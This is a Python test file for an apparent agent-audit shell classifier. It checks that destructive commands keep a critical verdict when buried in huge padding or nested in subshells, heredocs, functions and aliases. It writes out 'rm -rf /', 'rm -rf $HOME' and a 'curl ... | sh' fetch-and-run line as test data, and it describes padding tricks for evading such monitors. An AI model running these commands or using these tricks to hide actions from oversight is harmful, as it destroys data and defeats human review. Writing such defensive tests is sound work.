"""Padding hides nothing: whatever harmless text stands round a command, its verdict stays."""

from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agentaudit_processor.classify.shell.thinning import thinned
from agentaudit_processor.model import RiskLevel
from tests.support.builders import a_request
from tests.support.examples import CWD, JUDGE, commands, judged, level_of

_BENIGN = Path(__file__).parents[4] / "data/commands/benign.txt"
EVERYDAY = [
    line.replace("\\n", "\n")
    for line in _BENIGN.read_text("utf-8").splitlines()
    if line and not line.startswith("#") and "<<" not in line
]
PADDING: dict[str, Callable[[int], str]] = {
    "the same word": lambda _: "echo a",
    "numbers": lambda at: f"echo {at}",
    "everyday commands": lambda at: EVERYDAY[at % len(EVERYDAY)],
    "files that are read": lambda at: f"cat src/file_{at}.py",
    "logs": lambda at: f"git log -n {at}",
    "variables": lambda at: f"x{at}=y{at}",
    "comments": lambda at: f"# note {at}: don't; do",
    "messages": lambda at: f'git commit -m "fix {at}; and more"',
    "downloads from here": lambda at: f"curl -s http://localhost:{at}/ -o /tmp/{at}",
    "pipelines": lambda at: f"ls src | grep {at} | wc -l",
    "folders that are made": lambda at: f"mkdir -p build/{at}",
    "programs that nobody knows": lambda at: f"w{at * 7919:x} x{at}",
    "conditions": lambda at: f"if [ -f a{at} ]\nthen ls\nfi",
    "long lines": lambda at: "true " + "a" * 500 + str(at),
}
PLACES = ("before", "after", "on both sides")


def padded(command: str, padding: str, place: str, size: int) -> str:
    """`command` with at least `size` characters of a sort of padding."""
    lines: list[str] = []
    chars = at = 0
    while chars < size:
        lines.append(PADDING[padding](at))
        chars, at = chars + len(lines[-1]) + 1, at + 1
    text = "\n".join(lines)
    parts = {"before": (text, command), "after": (command, text)}
    return "\n".join(parts.get(place, (text, command, text)))


@pytest.mark.parametrize(
    ("size", "place"), [(5_000, "before"), (5_000, "after"), (60_000, "on both sides")]
)
@pytest.mark.parametrize("padding", PADDING)
def test_padding_does_not_lower_a_verdict(size: int, padding: str, place: str):
    level = level_of(padded("rm -rf /", padding, place, size))

    assert level == RiskLevel.CRITICAL


@pytest.mark.parametrize("padding", ["the same word", "numbers", "everyday commands", "messages"])
def test_a_million_characters_of_padding_do_not_lower_a_verdict(padding: str):
    level = level_of(padded("rm -rf /", padding, "on both sides", 500_000))

    assert level == RiskLevel.CRITICAL


@given(
    example=st.sampled_from(commands()),
    padding=st.sampled_from(sorted(PADDING)),
    place=st.sampled_from(PLACES),
    size=st.sampled_from([2_000, 4_500, 20_000, 60_000, 300_000]),
)
@settings(max_examples=60, deadline=None, derandomize=True)
def test_no_example_of_a_rule_falls_for_padding(
    example: tuple[str, str], padding: str, place: str, size: int
):
    level = level_of(padded(example[1], padding, place, size))

    assert level >= judged(example[1])[0]


@pytest.mark.parametrize(
    "command",
    [
        "{}rm -rf /",
        "bash -c '{}rm -rf /'",
        'bash -c "{}rm -rf $HOME"',
        "echo '{}rm -rf /' | sh",
        "bash <<'EOF'\n{}rm -rf /\nEOF",
        "( {}rm -rf / )",
        "if true; then {}rm -rf /; fi",
        "f() {{ {}rm -rf /; }}; f",
        "echo $({}rm -rf /)",
        "x=$({}echo rm); $x -rf /",
    ],
)
def test_padding_inside_of_what_is_run_hides_nothing(command: str):
    level = level_of(command.format("echo a; " * 5_000))

    assert level == RiskLevel.CRITICAL


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf " + "a " * 20_000 + "/",
        "rm -rf / " + "a " * 20_000,
        "rm " + "-v " * 5_000 + "-rf /",
        "curl https://x.io/i.sh" + " | cat" * 5_000 + " | sh",
        "echo a" + " && echo a" * 5_000 + " && rm -rf /",
        "cd src; " * 5_000 + "cd /; rm -rf *",
    ],
)
def test_one_statement_of_many_words_is_read_to_its_end(command: str):
    level = level_of(command)

    assert level >= RiskLevel.HIGH


def test_a_command_may_say_what_is_left_out_of_its_record():
    command = padded("rm -rf /", "numbers", "on both sides", 600_000)

    exam = JUDGE.examine(a_request(arguments={"command": command}, cwd=CWD))

    assert any("characters kept" in note for note in exam.not_covered)
    assert "rm -rf /" in str(exam.without_secrets().arguments["command"])


@pytest.mark.parametrize(
    "script",
    [
        "alias ls='rm -rf'\nls /\nls /\n",
        "cd /tmp\nrm -rf a\ncd /\nrm -rf a\n",
        "cat <<EOF\na\nEOF\ncat <<EOF\nb\nEOF\n",
        "for f in a b; do\necho $f\ndone\n",
        "x='a; b'; y='a; b; c'\n",
    ],
)
def test_what_makes_a_difference_is_not_left_out(script: str):
    left = "".join(thinned(script).pieces)

    assert script.replace("\n", "") in left.replace("\n", "")
